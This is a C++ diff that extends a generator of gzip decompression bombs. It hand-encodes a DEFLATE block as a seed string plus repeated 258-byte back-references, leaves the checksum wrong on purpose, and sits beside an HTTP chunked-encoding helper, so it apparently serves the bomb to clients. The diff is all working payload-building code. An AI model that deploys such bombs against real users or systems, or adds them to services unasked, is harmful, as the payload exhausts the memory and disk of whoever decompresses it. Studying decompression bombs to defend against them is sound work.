@@ -24,9 +24,9 @@ std::string chunk(const std::string& bytes) {
     return size + bytes + "\r\n";
 }
 
-// One block of fixed Huffman codes (RFC 1951, 3.2.6): an 'x', then "258 bytes from 1 before" over
-// and over. The checksum at the end is wrong; who reads that far has failed already.
-std::string gzip_bomb(std::size_t bytes) {
+// One block of fixed Huffman codes (RFC 1951, 3.2.6): the text, then "258 bytes from its length
+// before" over and over. The checksum at the end is wrong; who reads that far has failed already.
+std::string gzip_bomb(std::size_t bytes, std::string_view text) {
     std::string member("\x1f\x8b\x08\0\0\0\0\0\0\xff", 10);
     std::uint32_t bits = 0;
     unsigned held = 0;
@@ -39,12 +39,17 @@ std::string gzip_bomb(std::size_t bytes) {
             bits = held = 0;
         }
     };
-    put(1, 1, false);          // the last block
-    put(1, 2, false);          // fixed codes
-    put(0x30 + 'x', 8, true);  // the literal
+    put(1, 1, false);  // the last block
+    put(1, 2, false);  // fixed codes
+    for (const char literal : text) put(0x30u + static_cast<unsigned char>(literal), 8, true);
+    // A distance of more than 4 has a code for each half of a power of two, and the rest in bits.
+    const auto before = static_cast<std::uint32_t>(text.size()) - 1;
+    unsigned extra = 0;
+    while (before >> (extra + 2)) ++extra;
     for (std::size_t made = 0; made < bytes; made += 258) {
         put(0xc5, 8, true);  // length 258
-        put(0, 5, true);     // distance 1
+        put(2 * extra + (before >> extra), 5, true);
+        put(before & ((1u << extra) - 1), extra, false);
     }
     put(0, 7, true);  // the end of the block
     put(0, 7, false);
